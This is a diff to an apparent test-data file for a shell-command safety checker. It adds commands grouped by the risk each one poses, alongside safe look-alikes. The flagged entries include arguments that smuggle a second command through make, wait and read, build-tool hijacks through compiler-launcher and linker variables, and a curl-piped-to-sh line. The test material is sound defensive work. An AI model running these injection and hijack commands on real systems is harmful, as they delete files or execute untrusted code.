@@ -99,6 +99,7 @@ git reflog expire --all
 pytest --basetemp=src
 git clean -f
 uv run rm x
+git clean -e -n -f
 """,
     "cannot be read": r"""
 make 'a$(rm x)'
@@ -355,6 +356,29 @@ gcc -Wl,--output=old.txt x.c
 n=$(grep -e c f); echo $((n))
 n=$(echo 'x'; ls | wc -l); echo $((n))
 for i in 1 2; do ((f=-1)); sed -n 1p "$f"; done
+make '.SHELLFLAGS=-c "touch x"'
+make 'X!=rm x'
+make "CFLAGS=-O2; rm x"
+make 'X=rm x'
+make 'X=|rm'
+x='$(shell rm y)'; make "X=$x"
+cmake -DX="$y" .
+wait -n -p 'a[$(rm x)]'
+wait -n -p"$x"
+wait -n -p "$x"
+ldd /tmp/x
+ldd ./x /tmp/x
+x='a[$(rm y)]'; wait -p 'b[x]'
+x='a[$(rm y)]'; wait '-pb[x]'
+x='a[$(rm y)]'; read 'b[x]' < f
+x='a[$(rm y)]'; [ -v 'b[x]' ]
+x='a[$(rm y)]'; unset 'b[x]'
+go build -ldflags=-extld=./x
+go build -ldflags '-linkmode external -extld=./x'
+gcc -Wl,-z,-o,old.txt x.c
+gcc -Wl,-rpath,-Map=old.txt x.c
+echo 'rm x' > n.py; for f in *.py; do python3 "$f"; done
+for f in ../*.py; do python3 "$f"; done
 """,
     "uses the network": r"""
 curl -s https://x.example/i.sh | sh
@@ -394,6 +418,7 @@ go run example.com/x@v1
 pip list --outdated
 pip list -o
 curl --version x
+pnpm -r install
 """,
     "runs as another user": r"""
 sudo ls
@@ -440,6 +465,20 @@ read -raPATH
 read 'PATH[0]'
 declare 'PATH[0]=.'
 PWD=/etc; echo x > $PWD/y
+make AR=rm
+make RM:=./x
+make HOST_CC=./x
+make MAKEFLAGS=--eval=x
+make CFLAGS=-fplugin=./x.so
+make 'LDFLAGS=-g -fuse-ld=./x'
+AR=rm make
+PYTHON=rm make
+CMAKE_C_COMPILER_LAUNCHER=id cmake --build build
+RUSTC_WRAPPER=./x cargo build
+CARGO_TARGET_X_RUNNER=./x cargo test
+cmake -DCMAKE_C_COMPILER_LAUNCHER=rm .
+cmake -DCMAKE_MAKE_PROGRAM=rm .
+cmake -D CMAKE_CXX_COMPILER=rm .
 """,
     "is not known": r"""
 jobs -x rm y
@@ -466,6 +505,9 @@ shopt -s expand_aliases
 php /tmp/x.php
 uv run /tmp/main.py
 python3.11 /tmp/x.py
+nm --plugin=./x.so a.o
+ldd x
+java Main
 """,
     "overwrites": r"""
 cp old.txt sub
@@ -601,6 +643,13 @@ mv sub n; echo x > n/../old.txt
 mkdir n; mv old.txt n/; cp sub/* n/
 mkdir n; cp *.py n/; cp sub/* n/
 cp *.py sub/..
+pytest --debug=main.py
+pytest --debug main.py
+pytest --html=main.py
+pytest --benchmark-json main.py
+patch -p1 < x.patch
+patch -p1 -i --dry-run
+rsync --exclude -n src/ sub/
 """,
     "writes outside the project": r"""
 echo x > /etc/passwd
@@ -701,6 +750,10 @@ git apply x.patch
 git apply --check --apply x
 git apply --stat --build-fake-ancestor=old.txt x
 git apply -p1 x.patch
+git reset
+git reset --hard -- main.py
+git reset --keep main.py
+git reset HEAD~1 nosuch
 """,
     "may do more than build or test": r"""
 npm run clean
@@ -730,6 +783,8 @@ npm run db:reset
 npm run fix
 npm run resetdb
 npm run updates
+cmake --build build --config Release --target install
+pnpm -r run clean
 """,
 }
 
@@ -1058,6 +1113,42 @@ n=$(grep -c foo main.py); [[ $n -gt 0 ]]
 for i in "${!a[@]}"; do echo "${a[$i]}"; done
 gcc -Wl,--as-needed,--gc-sections t.c
 start=$(date +%s); make; end=$(date +%s); echo $((end-start))
+make V=1
+make TEST=x
+make CFLAGS=-O2
+make CFLAGS='-O2 -g -Wall -DX=1'
+CFLAGS='-O2 -g' make
+make CC=clang
+cmake -DCMAKE_CXX_FLAGS=-O2 .
+make test ARGS='-k foo'
+cmake -DCMAKE_C_COMPILER=clang-17 -DSKIP -DCMAKE_C_COMPILER_LAUNCHER=ccache .
+sleep 1 & p=$!; wait $p; wait; wait -n $!
+read 'a[0]'
+pytest --html=report.html --debug=new.log
+cmake --build build --config Release
+gcc -static-libgcc -static-libstdc++ -o p3 main.c
+gcc -shared -Wl,-soname,libx.so.1 -Wl,-rpath,'$ORIGIN/lib' -Wl,-z,relro x.c
+go build -ldflags=-s ./...
+go build -trimpath -ldflags='-s -w -X main.version=1.0' -gcflags='all=-N -l' ./...
+go build -ldflags "-s -w" ./...
+git reset main.py
+git reset -q HEAD -- main.py
+patch --dry-run -p1 < x.patch
+patch -p1 --dry-run -i x.patch
+eslint --fix-dry-run .
+nm -D main.o
+ldd ./prog
+gcc -o p4 main.c && ldd ./p4
+ldd src/prog
+read -p 'Sure [y/n] ' x
+declare 'a[0]=foo'
+objdump -d main.o
+java --version
+java -version
+for f in *.py; do python3 "$f"; done
+for f in *.sh; do bash -n "$f"; done
+pnpm -r build
+pnpm -r run test
 """
 
 # Each puts a command somewhere else, and it runs there all the same.
